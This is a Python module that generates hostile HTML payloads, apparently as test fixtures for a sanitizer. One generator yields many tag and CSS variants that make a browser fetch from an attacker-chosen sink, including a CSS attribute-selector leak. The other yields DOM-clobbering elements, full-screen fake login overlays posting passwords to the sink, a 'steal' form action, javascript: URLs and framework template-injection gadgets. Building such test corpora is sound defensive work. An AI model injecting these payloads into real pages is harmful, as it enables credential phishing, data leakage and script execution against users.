"""Hostile HTML that needs no script: what fetches, collects, overlays or passes for a part of our own page."""

from __future__ import annotations

from collections.abc import Iterator

JS = "alert(1)"


def fetching(sink: str) -> Iterator[str]:
    """Everything that asks for something without a script."""
    target = f"{sink}/f"
    bare = target.removeprefix("http:")
    for url in (target, bare, f" {target}", target.replace("//", "/\\"), target.upper().replace("F", "f")):
        yield from (
            f'<img src="{url}/img">',
            f'<img srcset="{url}/a.png 1x, {url}/b.png 2x">',
            f'<img src="cid:x" srcset="{url}/c.png 1x">',
            f'<img lowsrc="{url}/l.png" dynsrc="{url}/d.png">',
            f'<input type=image src="{url}/input.png">',
            f'<picture><source srcset="{url}/p.webp"><img src="cid:x"></picture>',
            f'<video poster="{url}/poster.png" src="{url}/v.mp4" autoplay></video>',
            f'<audio src="{url}/a.mp3" autoplay></audio>',
            f'<video><source src="{url}/s.mp4"><track src="{url}/t.vtt" default></video>',
            f'<object data="{url}/o"></object>',
            f'<embed src="{url}/e">',
            f'<iframe src="{url}/i"></iframe>',
            f'<frameset><frame src="{url}/fr"></frameset>',
            f'<portal src="{url}/po"></portal>',
            f'<table background="{url}/t.png"><tr><td background="{url}/td.png">x</table>',
            f'<body background="{url}/body.png">',
            f'<bgsound src="{url}/b.wav">',
            f'<applet codebase="{url}" code=x></applet>',
            f'<link rel=stylesheet href="{url}/c.css">',
            f'<link rel=prefetch href="{url}/pre">',
            f'<link rel=preload as=image href="{url}/pl.png">',
            f'<link rel=dns-prefetch href="{url}"><link rel=preconnect href="{url}">',
            f'<link rel=modulepreload href="{url}/m.js">',
            f'<link rel=icon href="{url}/icon.png">',
            f'<link rel=manifest href="{url}/m.json">',
            f'<meta http-equiv=refresh content="0;url={url}/refresh">',
            f'<meta http-equiv=refresh content="1; {url}/refresh">',
            f'<meta http-equiv=Link content="<{url}/l>; rel=prefetch">',
            f'<base href="{url}/"><img src=relativo.png>',
            f'<style>@import "{url}/i.css";</style>',
            f"<style>@import url({url}/u.css);</style>",
            f"<style>@font-face{{font-family:f;src:url({url}/f.woff)}}*{{font-family:f}}</style>x",
            f"<style>body{{background:url({url}/bg.png)}}</style>",
            f"<style>input[value^=a]{{background:url({url}/leak)}}</style>",
            f'<style>li{{list-style:url("{url}/li.png")}}</style><ul><li>x</ul>',
            f"<style>p::before{{content:url({url}/content)}}</style><p>x",
            f'<div style="background:url({url}/div.png)">x</div>',
            f'<div style="background-image:image-set(url({url}/set.png) 1x)">x</div>',
            f'<p style="border-image:url({url}/b.png) 9;border:9px solid">x</p>',
            f'<p style="cursor:url({url}/c.cur),auto">x</p>',
            f'<p style="--x:url({url}/v);background:var(--x)">x</p>',
            f'<p style="mask:url({url}/m.svg#m);filter:url({url}/f.svg#f)">x</p>',
            f'<a href="https://example.com" ping="{url}/ping">x</a>',
            f'<v:imagedata src="{url}/v.png" xmlns:v="urn:schemas-microsoft-com:vml">',
            f'<xml><i><b src="{url}/x"></b></i></xml>',
            f'<menuitem icon="{url}/menu.png">',
            f'<html manifest="{url}/cache">',
            f'<isindex action="{url}/q" type=image src="{url}/isindex">',
        )


def overlays(sink: str) -> Iterator[str]:
    """Forms, clobbering, overlays and what tries to pass for a part of our own page."""
    names = (
        *("csrf_token", "clave", "texto", "responder", "document", "cookie", "body", "location", "forms"),
        *("getElementById", "querySelector", "attributes", "parentNode", "__proto__", "constructor", "htmx"),
    )
    for name in names:
        yield f"<a id={name} href='{sink}/clobber'>x</a><a id={name} name=href>y</a>"
        yield f"<form id={name}><input name={name} value=x></form><img name={name}>"
        yield f"<p id={name} class={name} data-{name}='{JS}' data-composer data-answer=x>x</p>"
        yield f"<object name={name} data='{sink}/o'></object><embed name={name} src=javascript:{JS}>"
    for place in ("fixed", "absolute", "sticky"):
        yield f'<div style="position:{place};inset:0;z-index:9999"><form action={sink}/login><input></form></div>'
        yield f"<style>*{{position:{place};top:0}}</style><a href={sink}/x>Su sesión terminó</a>"
    yield f"<form action={sink}/login><input type=password name=p><input type=submit></form>"
    yield f"<button form=responder formaction={sink}/steal>Enviar</button>"
    yield f"<form action={sink}/x><button formaction=javascript:{JS} autofocus>x</button>"
    yield f"<textarea form=responder name=texto></textarea><form action={sink}/x>"
    yield "<dialog open><form method=dialog><input autofocus></form></dialog>"
    yield f"<template shadowrootmode=open><script>{JS}</script><img src={sink}/shadow></template>"
    yield f"<div data-hx-get={sink}/hx hx-get={sink}/hx hx-trigger=load hx-on::load={JS}>x</div>"
    yield f"<div x-data x-init={JS} v-html=x ng-app ng-init={JS}>{{{{constructor.constructor('{JS}')()}}}}</div>"
    yield "<slot name=x></slot><custom-x is=y></custom-x>" + f"<img is=x src=x onerror={JS}>"
